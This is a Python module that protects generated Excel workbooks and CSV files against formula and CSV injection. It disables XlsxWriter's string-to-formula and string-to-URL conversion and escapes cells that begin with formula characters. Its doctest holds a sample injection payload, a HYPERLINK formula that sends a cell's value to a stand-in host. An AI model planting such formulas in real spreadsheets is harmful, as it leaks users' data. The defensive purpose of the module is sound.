"""Workbooks and CSV files written from data: whatever a text says, it stays text.

Text in the outputs comes partly from outside (what dealers typed into returned files,
names in the rosters). XlsxWriter by default writes a string starting with ``=`` as a
formula and one that looks like a URL (``https://…``, ``external:\\\\host\\x.exe``) as a
live hyperlink; :func:`new_workbook` creates every workbook the jobs write with those
conversions off. In a CSV file opened by Excel, a cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is read as a formula (CSV injection, OWASP);
:func:`write_csv` writes such a text with a leading apostrophe, which Excel shows as the
text itself.

>>> csv_cell('=HYPERLINK("http://x.example/?"&B2,"open")'), csv_cell("-5"), csv_cell("D00001")
('\\'=HYPERLINK("http://x.example/?"&B2,"open")', "'-5", 'D00001')
"""
from __future__ import annotations

from pathlib import Path

import pandas as pd

from .safety import atomic_write

# Data is written as data: no text becomes a formula, a hyperlink or a number.
DATA_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False,
                "nan_inf_to_errors": True, "remove_timezone": True}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def new_workbook(path, **options):
    """An XlsxWriter workbook at ``path`` with :data:`DATA_OPTIONS` (``options`` add to them)."""
    import xlsxwriter

    return xlsxwriter.Workbook(str(path), {**DATA_OPTIONS, **options})


def csv_cell(value):
    """``value``, with an apostrophe before a text Excel would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell made safe by :func:`csv_cell`, headers included."""
    safe = frame.rename(columns=lambda c: csv_cell(str(c)))
    for index, column in enumerate(safe.columns):
        values = safe.iloc[:, index]
        if values.dtype == object or isinstance(values.dtype, pd.StringDtype):
            safe.isetitem(index, values.map(csv_cell, na_action="ignore"))
    return safe


def write_csv(frame: pd.DataFrame, path: str | Path) -> Path:
    """``frame`` as a CSV file for Excel (UTF-8 with BOM, CRLF line ends: a cell holding a
    line break of either kind is quoted), atomically, no cell a formula."""
    path = Path(path)
    with atomic_write(path) as temporary:
        csv_safe(frame).to_csv(temporary, index=False, encoding="utf-8-sig", lineterminator="\r\n")
    return path
